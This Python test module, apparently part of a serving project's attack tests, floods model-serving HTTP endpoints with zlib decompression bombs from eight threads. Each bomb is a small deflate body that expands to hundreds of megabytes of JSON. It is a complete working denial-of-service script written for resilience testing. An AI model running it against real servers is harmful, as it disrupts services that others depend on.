"""Small compressed bodies whose JSON is huge: a string, escapes, values or an answer; eight at once."""

import http.client
import itertools
import threading
import time
import zlib

from tests.serving.attacks.target import Target

SENDERS = 8
INFLATED_BYTES, BLOCK_BYTES = 250_000_000, 2**20
PATHS = ("/v1/score", "/v2/models/judge/infer", "/v2/repository/index")
BEFORE, AFTER = b'{"groups": [{"prompt": "', b'", "images": [null, null]}]}'


def attack(target: Target, until: float) -> int:
    """Send them, again and again. Answers do not matter."""
    bodies = _bodies()
    sent = [0] * SENDERS

    def send(number: int) -> None:
        turns = itertools.count(number)
        while time.monotonic() < until:
            turn = next(turns)
            _post(target, PATHS[turn % len(PATHS)], bodies[turn % len(bodies)])
            sent[number] += 1

    threads = [threading.Thread(target=send, args=(number,)) for number in range(SENDERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(sent)


def _bodies() -> list[bytes]:
    emoji = BEFORE + "\U0001f600".encode()
    return [
        _packed(emoji, b"a", INFLATED_BYTES, AFTER),
        _packed(BEFORE, b'\\"', INFLATED_BYTES // 8, AFTER),
        _packed(b"[1", b",1", INFLATED_BYTES // 8, b"]"),
        _packed(b'["a"', b',"a"', INFLATED_BYTES // 16, b"]"),
        # The answer to groups of which nothing is judged is as large as the limits allow.
        _packed(b'{"groups": [{"prompt": "", "images": [null', b", null", 1023, b"]}]}"),
    ]


def _packed(before: bytes, part: bytes, times: int, after: bytes) -> bytes:
    """All of it in zlib's format, where the blocks of a large middle are compressed once and repeated."""
    block = part * min(times, BLOCK_BYTES // len(part))
    repeats = times * len(part) // len(block)
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    pieces = [packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)]
    pieces += [packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)] * repeats
    pieces.append(packer.compress(after) + packer.flush())
    checksum = zlib.adler32(before)
    for _ in range(repeats):
        checksum = zlib.adler32(block, checksum)
    checksum = zlib.adler32(after, checksum)
    return b"\x78\x9c" + b"".join(pieces) + checksum.to_bytes(4, "big")


def _post(target: Target, path: str, body: bytes) -> None:
    headers = {"Content-Encoding": "deflate"}
    if target.token:
        headers["Authorization"] = f"Bearer {target.token}"
    connection = http.client.HTTPConnection(target.http, timeout=30)
    try:
        connection.request("POST", path, body, headers)
        connection.getresponse().read()
    except (OSError, http.client.HTTPException):
        pass
    finally:
        connection.close()
